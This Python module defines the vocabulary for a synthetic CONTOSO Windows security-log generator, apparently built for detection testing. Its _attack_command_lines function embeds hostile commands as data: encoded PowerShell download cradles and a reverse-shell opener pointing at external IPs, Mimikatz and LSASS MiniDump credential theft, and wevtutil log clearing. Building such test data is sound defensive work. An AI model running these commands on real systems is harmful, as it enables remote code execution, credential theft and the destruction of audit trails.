"""The fixed vocabulary of the synthetic environment: people, hosts, addresses, processes.

Events are drawn as integer codes; these Arrow arrays turn codes into strings with one
``take``. Layout of the code spaces (all deterministic for a given seed):

* computers: ``N_DC`` domain controllers, ``N_SERVERS`` servers, ``N_WORKSTATIONS`` workstations;
* principals: ``N_USERS`` users (the first ``N_SERVICE`` are service accounts, the next
  ``N_ADMINS`` admin accounts), then one machine account per computer;
* IP addresses: see the ``IP_*`` offsets;
* processes: ``""``, ``"-"``, the logon processes, the common programs, then a long tail of rare
  installers and tools; command lines: a block of variants per process (``cmd_offset``,
  ``cmd_size``), then the attack command lines.
"""

from __future__ import annotations

import base64
from dataclasses import dataclass

import numpy as np
import pyarrow as pa
import pyarrow.compute as pc

DOMAIN = "CONTOSO"
UPN_SUFFIX = "@contoso.com"
N_DC, N_SERVERS, N_WORKSTATIONS = 10, 190, 1800
N_COMPUTERS = N_DC + N_SERVERS + N_WORKSTATIONS
N_USERS, N_SERVICE, N_ADMINS = 20_000, 40, 60
N_PRINCIPALS = N_USERS + N_COMPUTERS
N_VPN, N_ATTACKERS, N_PUBLIC = 2_000, 64, 6_000
IP_EMPTY, IP_DASH, IP_LOOPBACK = 0, 1, 2
IP_HOSTS = 3  # one per computer
IP_MAPPED = IP_HOSTS + N_COMPUTERS  # "::ffff:" + host address, as Kerberos events write it
IP_VPN = IP_MAPPED + N_COMPUTERS
IP_ATTACKERS = IP_VPN + N_VPN
IP_PUBLIC = IP_ATTACKERS + N_ATTACKERS
PROC_EMPTY, PROC_DASH, PROC_WINLOGON, PROC_LSASS, PROC_SERVICES = 0, 1, 2, 3, 4
PROC_FIRST_PROGRAM = 5
N_RARE_PROCESSES = 2_500

_FIRST = (  # noqa: SIM905  (a sentence of names reads better than a column)
    "James Mary John Patricia Robert Jennifer Michael Linda William Elizabeth David Barbara Richard Susan "
    "Joseph Jessica Thomas Sarah Charles Karen Daniel Nancy Matthew Lisa Anthony Betty Mark Margaret "
    "Donald Sandra Steven Ashley Paul Kimberly Andrew Emily Joshua Donna Kenneth Michelle Kevin Dorothy "
    "Brian Carol George Amanda Timothy Melissa Ronald Deborah Edward Stephanie Jason Rebecca Jeffrey "
    "Sharon Ryan Laura Jacob Cynthia Gary Kathleen Nicholas Amy Eric Angela Jonathan Shirley Stephen Anna "
    "Larry Brenda Justin Pamela Scott Emma Brandon Nicole"
).split()
_LAST = (  # noqa: SIM905  (a sentence of names reads better than a column)
    "Smith Johnson Williams Brown Jones Garcia Miller Davis Rodriguez Martinez Hernandez Lopez Gonzalez "
    "Wilson Anderson Thomas Taylor Moore Jackson Martin Lee Perez Thompson White Harris Sanchez Clark "
    "Ramirez Lewis Robinson Walker Young Allen King Wright Scott Torres Nguyen Hill Flores Green Adams "
    "Nelson Baker Hall Rivera Campbell Mitchell Carter Roberts Gomez Phillips Evans Turner Diaz Parker "
    "Cruz Edwards Collins Reyes Stewart Morris Morales Murphy Cook Rogers Gutierrez Ortiz Morgan Cooper "
    "Peterson Bailey Reed Kelly Howard Ramos Kim Cox Ward Richardson Watson Brooks Chavez Wood James "
    "Bennett Gray Mendoza Ruiz Hughes Price Alvarez Castillo Sanders Patel Myers Long Ross Foster Jimenez "
    "Powell Jenkins Perry Russell Sullivan Bell Coleman Butler Henderson Barnes Gonzales Fisher Vasquez "
    "Simmons Romero"
).split()
_SERVICES = (  # noqa: SIM905  (a sentence of names reads better than a column)
    "backup sql sccm exchange sharepoint scan veeam splunk monitor print adsync web iis jenkins ansible "
    "tableau crm erp ftp hr payroll bi vpn proxy av mdm patch citrix vmware sap ldap nessus qualys svn "
    "git docker k8s kafka mail dhcp"
).split()
_SERVER_ROLES = ("FS", "SQL", "WEB", "APP", "EXCH", "PRN", "CTX", "BKP", "SCCM", "DEV")
_COUNTRIES = (
    ("US", "Seattle", "Washington"),
    ("US", "New York", "New York"),
    ("US", "Chicago", "Illinois"),
    ("GB", "London", "England"),
    ("DE", "Berlin", "Berlin"),
    ("FR", "Paris", "Ile-de-France"),
    ("IN", "Bengaluru", "Karnataka"),
    ("JP", "Tokyo", "Tokyo"),
    ("BR", "Sao Paulo", "Sao Paulo"),
    ("CA", "Toronto", "Ontario"),
    ("NL", "Amsterdam", "North Holland"),
    ("AU", "Sydney", "New South Wales"),
)


@dataclass(frozen=True)
class Vocabulary:
    """Code -> string tables shared by every generated day."""

    computers: pa.Array
    short_computers: pa.Array
    principals: pa.Array
    principals_typed: pa.Array  # as a person types it ("John.Smith"), for failed logons
    display_names: pa.Array
    user_ids: pa.Array
    ips: pa.Array
    ip_country: np.ndarray  # country index per public address
    processes: pa.Array
    process_paths: pa.Array
    command_lines: pa.Array
    cmd_offset: np.ndarray
    cmd_size: np.ndarray
    cmd_suffix: pa.Array  # per process: text followed by a per-launch number ("" = none)
    attack_commands: dict[str, int]  # attack kind -> first code of its command lines
    attack_command_counts: dict[str, int]


def build_vocabulary(seed: int) -> Vocabulary:
    """The vocabulary for ``seed`` (the same seed gives the same strings in the same order)."""
    rng = np.random.default_rng(seed)
    users, typed, display = _user_names(rng)
    computers, short = _computer_names()
    machine = [f"{name}$" for name in short]
    programs = _programs(rng)
    commands, offset, size = _command_lines(rng, programs, users)
    attack_start, attack_counts = len(commands), {}
    attack_codes: dict[str, int] = {}
    for kind, lines in _attack_command_lines(rng).items():
        attack_codes[kind], attack_counts[kind] = len(commands), len(lines)
        commands.extend(lines)
    assert attack_start <= min(attack_codes.values())
    return Vocabulary(
        computers=pa.array(computers),
        short_computers=pa.array(short),
        principals=pa.array(users + machine),
        principals_typed=pa.array(typed + machine),
        display_names=pa.array(display),
        user_ids=pa.array(_guids(rng, N_USERS)),
        ips=pa.array(_ip_addresses(rng)),
        ip_country=rng.integers(0, len(_COUNTRIES), N_PUBLIC),
        processes=pa.array([p.rsplit("\\", 1)[-1] for p in programs]),
        process_paths=pa.array(programs),
        command_lines=pa.array(commands),
        cmd_offset=offset,
        cmd_size=size,
        cmd_suffix=pa.array([_PER_LAUNCH.get(p.rsplit("\\", 1)[-1], "") for p in programs]),
        attack_commands=attack_codes,
        attack_command_counts=attack_counts,
    )


def with_prefix(prefix: str, values: pa.Array) -> pa.Array:
    """``prefix + value`` for every value (e.g. ``CONTOSO\\`` before account names)."""
    return pc.binary_join_element_wise(pa.scalar(prefix), values, "")


# ---------------------------------------------------------------- people and hosts


def _user_names(rng: np.random.Generator) -> tuple[list[str], list[str], list[str]]:
    """Logon names, the same names as typed by a person, and display names."""
    combos = rng.permutation(len(_FIRST) * len(_LAST))
    names, typed, display = [], [], []
    for i in range(N_USERS):
        first, last = (
            _FIRST[combos[i % len(combos)] // len(_LAST)],
            _LAST[combos[i % len(combos)] % len(_LAST)],
        )
        number = "" if i < len(combos) else str(i // len(combos) + 1)
        if i < N_SERVICE:
            name = f"svc_{_SERVICES[i]}"
            first, last = "Service", _SERVICES[i]
        elif i < N_SERVICE + N_ADMINS:
            name = f"adm-{first[0].lower()}{last.lower()}"
            name = name if name not in names else f"{name}{i}"
        else:
            name = f"{first.lower()}.{last.lower()}{number}"
        names.append(name)
        typed.append(name if i < N_SERVICE + N_ADMINS else f"{first}.{last}{number}")
        display.append(f"{first} {last}")
    return names, typed, display


def _computer_names() -> tuple[list[str], list[str]]:
    short = [f"DC{i + 1:02d}" for i in range(N_DC)]
    short += [
        f"SRV-{_SERVER_ROLES[i % len(_SERVER_ROLES)]}-{i // len(_SERVER_ROLES) + 1:02d}"
        for i in range(N_SERVERS)
    ]
    short += [f"WS-{i + 1:05d}" for i in range(N_WORKSTATIONS)]
    return [f"{name}.corp.contoso.com" for name in short], short


def _ip_addresses(rng: np.random.Generator) -> list[str]:
    hosts = [f"10.{c // 250 + 1}.{c % 250}.{(c * 37) % 200 + 20}" for c in range(N_COMPUTERS)]
    vpn = [f"172.16.{k // 250}.{k % 250 + 2}" for k in range(N_VPN)]
    attackers = [
        f"{(185, 45, 91, 193)[k % 4]}.{(220, 155, 240, 42)[k % 4]}.{100 + k // 4}.{(k * 53) % 250 + 2}"
        for k in range(N_ATTACKERS)
    ]
    octets = rng.integers(1, 255, size=(N_PUBLIC, 4))
    first = np.array([20, 40, 52, 73, 98, 104, 176, 203, 24, 81, 86, 109])[octets[:, 0] % 12]
    public = [f"{a}.{b}.{c}.{d}" for a, (b, c, d) in zip(first, octets[:, 1:].tolist(), strict=True)]
    mapped = [f"::ffff:{ip}" for ip in hosts]
    return ["", "-", "127.0.0.1", *hosts, *mapped, *vpn, *attackers, *public]


def _guids(rng: np.random.Generator, n: int) -> list[str]:
    return [str(guid) for guid in guid_array(rng, n).to_pylist()]


def guid_array(rng: np.random.Generator, n: int) -> pa.Array:
    """``n`` random GUID strings, drawn in bulk."""
    digits = np.frombuffer(b"0123456789abcdef", dtype="S1")[rng.integers(0, 16, size=(n, 32))]
    dash = np.full((n, 1), b"-", dtype="S1")
    parts = [
        digits[:, :8],
        dash,
        digits[:, 8:12],
        dash,
        digits[:, 12:16],
        dash,
        digits[:, 16:20],
        dash,
        digits[:, 20:],
    ]
    text = np.ascontiguousarray(np.concatenate(parts, axis=1)).view("S36").ravel()
    return pa.array(text, type=pa.binary(36)).cast(pa.string())


def country(code: int) -> tuple[str, str, str]:
    """(country code, city, state) of a location index."""
    return _COUNTRIES[code]


def countries() -> int:
    """How many locations there are."""
    return len(_COUNTRIES)


# ---------------------------------------------------------------- processes and command lines

_SYS = "C:\\Windows\\System32"
_PROGRAMS = (
    f"{_SYS}\\svchost.exe",
    f"{_SYS}\\conhost.exe",
    "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
    "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe",
    f"{_SYS}\\RuntimeBroker.exe",
    f"{_SYS}\\backgroundTaskHost.exe",
    f"{_SYS}\\WindowsPowerShell\\v1.0\\powershell.exe",
    f"{_SYS}\\cmd.exe",
    f"{_SYS}\\taskhostw.exe",
    f"{_SYS}\\dllhost.exe",
    "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\MsMpEng.exe",
    f"{_SYS}\\SearchProtocolHost.exe",
    f"{_SYS}\\wbem\\WmiPrvSE.exe",
    f"{_SYS}\\rundll32.exe",
    "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
    "C:\\Windows\\explorer.exe",
    f"{_SYS}\\sc.exe",
    f"{_SYS}\\reg.exe",
    f"{_SYS}\\net.exe",
    f"{_SYS}\\net1.exe",
    f"{_SYS}\\schtasks.exe",
    "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE",
    f"{_SYS}\\msiexec.exe",
    "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
    f"{_SYS}\\whoami.exe",
    f"{_SYS}\\ipconfig.exe",
    "C:\\Program Files\\Git\\cmd\\git.exe",
    "C:\\Program Files\\Python311\\python.exe",
    f"{_SYS}\\notepad.exe",
    f"{_SYS}\\wbem\\WMIC.exe",
    "C:\\Windows\\System32\\inetsrv\\w3wp.exe",
    f"{_SYS}\\certutil.exe",
    f"{_SYS}\\mstsc.exe",
    f"{_SYS}\\tasklist.exe",
    f"{_SYS}\\PING.EXE",
    f"{_SYS}\\nslookup.exe",
    f"{_SYS}\\curl.exe",
    "C:\\Program Files\\Microsoft SQL Server\\MSSQL16.MSSQLSERVER\\MSSQL\\Binn\\sqlservr.exe",
    "C:\\Users\\Public\\Teams\\current\\Teams.exe",
    f"{_SYS}\\bitsadmin.exe",
    f"{_SYS}\\wevtutil.exe",
)
_ARGS: dict[str, tuple[str, ...]] = {
    "svchost.exe": (
        "-k netsvcs -p -s {svc}",
        "-k LocalServiceNetworkRestricted -p -s {svc}",
        "-k DcomLaunch -p",
        "-k UnistackSvcGroup -s {svc}",
        "-k RPCSS -p",
    ),
    "conhost.exe": ("0xffffffff -ForceV1", "\\??\\C:\\Windows\\system32\\conhost.exe 0x4"),
    "chrome.exe": (
        "--type=renderer --display-capture-permissions-policy-allowed --lang=en-US "
        "--device-scale-factor=1 --num-raster-threads=4 --enable-main-frame-before-activation "
        "--renderer-client-id={n} --time-ticks-at-unix-epoch=-{n}{n} --launch-time-ticks={n}{n} "
        "--field-trial-handle={n},i,{n}{n},{n}{n},262144 --mojo-platform-channel-handle={n} /prefetch:1",
        "--type=utility --utility-sub-type=network.mojom.NetworkService --lang=en-US --service-sandbox-type=none "
        "--mojo-platform-channel-handle={n} --field-trial-handle={n},i,{n}{n},{n},262144 /prefetch:8",
    ),
    "msedge.exe": (
        "--type=renderer --lang=en-US --js-flags=--ms-user-locale= --device-scale-factor=1 "
        "--num-raster-threads=2 --renderer-client-id={n} --field-trial-handle={n},i,{n}{n},{n},262144 "
        "--mojo-platform-channel-handle={n} /prefetch:1",
        "--no-startup-window --win-session-start /prefetch:5",
    ),
    "powershell.exe": (
        "-NoProfile -ExecutionPolicy Bypass -File {script}",
        "-ExecutionPolicy Bypass -File {script}",
        "-File {script} -Verbose",
        "-NoLogo -NonInteractive -File {script}",
        '-Command "Get-{noun} | Export-Csv C:\\Temp\\{noun}.csv"',
        '-NoProfile -Command "Get-{noun}"',
    ),
    "cmd.exe": (
        "/c {dir}\\{noun}.bat",
        '/c "echo {n} > C:\\Temp\\{noun}.txt"',
        "/c dir C:\\Users\\{user}",
        '/d /c "{dir}\\Run-{noun}.cmd"',
        "/c net use \\\\SRV-FS-0{d}\\{noun}",
    ),
    "rundll32.exe": (
        "C:\\Windows\\system32\\shell32.dll,SHCreateLocalServerRunDll {{{guid}}} -Embedding",
        "C:\\Windows\\System32\\printui.dll,PrintUIEntry /in /n \\\\SRV-PRN-0{d}\\Floor{n}",
    ),
    "net.exe": (
        "use \\\\SRV-FS-0{d}\\{noun}",
        'group "Domain Admins" /domain',
        "user {user} /domain",
        "localgroup administrators",
    ),
    "sc.exe": ("query {svc}", "start {svc}", "stop {svc}", "config {svc} start= auto"),
    "reg.exe": (
        "query HKLM\\Software\\{noun} /s",
        "add HKCU\\Software\\{noun} /v {noun} /t REG_SZ /d {n} /f",
    ),
    "schtasks.exe": (
        '/Create /TN "{noun}" /TR "{dir}\\{noun}.bat" /SC DAILY /ST 0{d}:00 /F',
        "/Query /FO LIST /V",
        '/Run /TN "\\Contoso\\{noun}"',
    ),
    "msiexec.exe": ("/i \\\\SRV-SCCM-0{d}\\Packages\\{noun}_{n}.msi /qn", "/V", "/x {{{guid}}} /qn"),
    "git.exe": (
        "pull --rebase origin main",
        "fetch --all --prune",
        "status --porcelain",
        "clone https://git.contoso.com/{noun}.git",
    ),
    "python.exe": ("{dir}\\{noun}.py --since {n}", "-m pip install --upgrade {noun}"),
    "w3wp.exe": (
        '-ap "{noun}AppPool" -v "v4.0" -l "webengine4.dll" -a \\\\.\\pipe\\iisipm{guid} -h '
        '"C:\\inetpub\\temp\\apppools\\{noun}AppPool\\{noun}AppPool.config" -w "" -m 0 -t 20 -ta 0',
    ),
    "WMIC.exe": (
        "process list brief",
        "os get caption,version",
        '/node:SRV-APP-0{d} process call create "cmd /c {noun}"',
    ),
    "certutil.exe": ("-store my", "-verify C:\\Temp\\{noun}.cer"),
    "PING.EXE": ("-n 1 SRV-{role}-0{d}", "10.{d}.{n}.{d}"),
    "nslookup.exe": ("SRV-{role}-0{d}.corp.contoso.com", "{noun}.contoso.com"),
    "curl.exe": (
        "-s https://api.contoso.com/{noun}/{n}",
        "-o C:\\Temp\\{noun}.zip https://download.contoso.com/{noun}.zip",
    ),
    "dllhost.exe": ("/Processid:{{{guid}}}",),
    "wevtutil.exe": ("qe Security /c:{n} /rd:true /f:text", "gl Security"),
}
# Programs whose command line carries a per-launch id: command lines are mostly unique strings.
_PER_LAUNCH = {
    "chrome.exe": " --launch-time-ticks=",
    "msedge.exe": " --launch-time-ticks=",
    "conhost.exe": " -Embedding -ServerName:",
    "dllhost.exe": " -Embedding ",
    "w3wp.exe": " -in ",
    "RuntimeBroker.exe": " -Embedding ",
    "backgroundTaskHost.exe": " -ServerName:BackgroundTaskHost.",
    "taskhostw.exe": " /RuntimeWide ",
    "python.exe": " --run-id=",
}
_NOUNS = (  # noqa: SIM905  (a sentence of names reads better than a column)
    "Inventory Logs Users Disk Patches Printers Shares Services Backup Certificates Licenses Quota "
    "Mailbox Sessions Updates Health Reports Accounts Groups Computers Tickets Assets Audit Cleanup Sync"
).split()
_VERBS = (  # noqa: SIM905  (a sentence of names reads better than a column)
    "Backup Get Set Invoke Update Sync Clear Check Deploy Install Remove Export Collect Rotate Test"
).split()
_SCRIPT_DIRS = (
    "C:\\Scripts",
    "C:\\ProgramData\\Admin\\Scripts",
    "\\\\SRV-FS-01\\NETLOGON",
    "D:\\Ops\\Tasks",
    "C:\\Program Files\\Monitoring\\bin",
    "C:\\Users\\{user}\\Desktop",
    '"C:\\Program Files\\Contoso Tools"',
)
_RARE_STEMS = (  # noqa: SIM905
    "Setup Installer Update Helper Agent Tool Client Viewer Launcher Sync"
).split()
_RARE_VENDORS = (  # noqa: SIM905
    "Zoom Adobe Notepad++ VLC 7z WinSCP PuTTY FileZilla Slack Spotify Dropbox Greenshot KeePass Wireshark "
    "Postman Docker Figma Obsidian"
).split()


def _programs(rng: np.random.Generator) -> list[str]:
    """Process paths: placeholders and logon processes, common programs, then the rare tail."""
    fixed = ["", "-", f"{_SYS}\\winlogon.exe", f"{_SYS}\\lsass.exe", f"{_SYS}\\services.exe"]
    rare = []
    for k in range(N_RARE_PROCESSES):
        vendor, stem = (
            _RARE_VENDORS[k % len(_RARE_VENDORS)],
            _RARE_STEMS[(k // len(_RARE_VENDORS)) % len(_RARE_STEMS)],
        )
        version = f"{rng.integers(1, 30)}.{rng.integers(0, 10)}.{k}"
        rare.append(f"C:\\Users\\Public\\Downloads\\{vendor}{stem}_{version}.exe")
    return fixed + list(_PROGRAMS) + rare


def _command_lines(
    rng: np.random.Generator, programs: list[str], users: list[str]
) -> tuple[list[str], np.ndarray, np.ndarray]:
    """All command-line variants; process ``p`` owns ``lines[offset[p]:offset[p] + size[p]]``."""
    lines, offset, size = [""], np.zeros(len(programs), np.int32), np.ones(len(programs), np.int32)
    for p, path in enumerate(programs[PROC_FIRST_PROGRAM:], start=PROC_FIRST_PROGRAM):
        variants = _variants(rng, path, users)
        offset[p], size[p] = len(lines), len(variants)
        lines.extend(variants)
    return lines, offset, size


def _variants(rng: np.random.Generator, path: str, users: list[str]) -> list[str]:
    name = path.rsplit("\\", 1)[-1]
    templates = _ARGS.get(name)
    if templates is None:
        return [f'"{path}"' if " " in path else path] + ([f'"{path}" /S'] if "Downloads" in path else [])
    count = (
        int(rng.integers(40, 400))
        if name in ("powershell.exe", "chrome.exe", "cmd.exe")
        else int(rng.integers(5, 60))
    )
    return [f'"{path}" {_fill(rng, templates[k % len(templates)], users)}' for k in range(count)]


def _fill(rng: np.random.Generator, template: str, users: list[str]) -> str:
    """One concrete argument string for ``template``'s placeholders."""
    noun = _NOUNS[rng.integers(len(_NOUNS))]
    values = {
        "svc": ("Schedule", "BITS", "wuauserv", "Dnscache", "LanmanServer", "WinRM", "EventLog")[
            rng.integers(7)
        ],
        "n": str(rng.integers(1, 99999)),
        "d": str(rng.integers(1, 10)),
        "noun": noun,
        "user": users[int(rng.integers(N_SERVICE, N_USERS))],
        "guid": str(guid_array(rng, 1)[0]).upper(),
        "role": ("FS", "SQL", "WEB", "APP")[rng.integers(4)],
        "script": _script(rng, users),
        "dir": _SCRIPT_DIRS[rng.integers(4)],
    }
    return template.format(**values)


def _script(rng: np.random.Generator, users: list[str]) -> str:
    folder = _SCRIPT_DIRS[rng.integers(len(_SCRIPT_DIRS))].replace(
        "{user}", users[int(rng.integers(N_SERVICE, 2000))]
    )
    name = f"{_VERBS[rng.integers(len(_VERBS))]}-{_NOUNS[rng.integers(len(_NOUNS))]}.ps1"
    name = (name, name, name.lower(), name.upper())[rng.integers(4)]  # admins type names in any case
    return f'{folder[:-1]}\\{name}"' if folder.endswith('"') else f"{folder}\\{name}"


def _attack_command_lines(rng: np.random.Generator) -> dict[str, list[str]]:
    payloads = [
        f"IEX (New-Object Net.WebClient).DownloadString('http://{ip}/{p}')"
        for ip in ("185.220.101.7", "45.155.205.33", "91.240.118.12")
        for p in ("a.ps1", "stage2", "run")
    ]
    payloads += [
        "$c=New-Object System.Net.Sockets.TCPClient('193.42.33.9',443)",
        "Invoke-Mimikatz -DumpCreds",
    ]
    encoded = [base64.b64encode(p.encode("utf-16-le")).decode() for p in payloads]
    flags = ("-NoP -NonI -W Hidden -enc", "-nop -w hidden -EncodedCommand", "-NoProfile -ENC", "-ec")
    ps = f"{_SYS}\\WindowsPowerShell\\v1.0\\powershell.exe"
    return {
        "encoded_powershell": [
            f"{(ps, 'powershell.exe', 'powershell')[k % 3]} {flags[k % 4]} {e}"
            for k, e in enumerate(encoded * 4)
        ],
        "credential_dump": [
            f"{_SYS}\\rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump {rng.integers(500, 900)} "
            f"C:\\Windows\\Temp\\{n}.dmp full"
            for n in ("lsass", "debug", "m")
        ],
        "log_clear": [
            '"C:\\Windows\\System32\\wevtutil.exe" cl Security',
            '"C:\\Windows\\System32\\wevtutil.exe" cl System',
        ],
    }


def process_code(vocabulary: Vocabulary, name: str) -> int:
    """The code of the first process called ``name`` (e.g. ``powershell.exe``)."""
    return int(pc.index(vocabulary.processes, name).as_py())
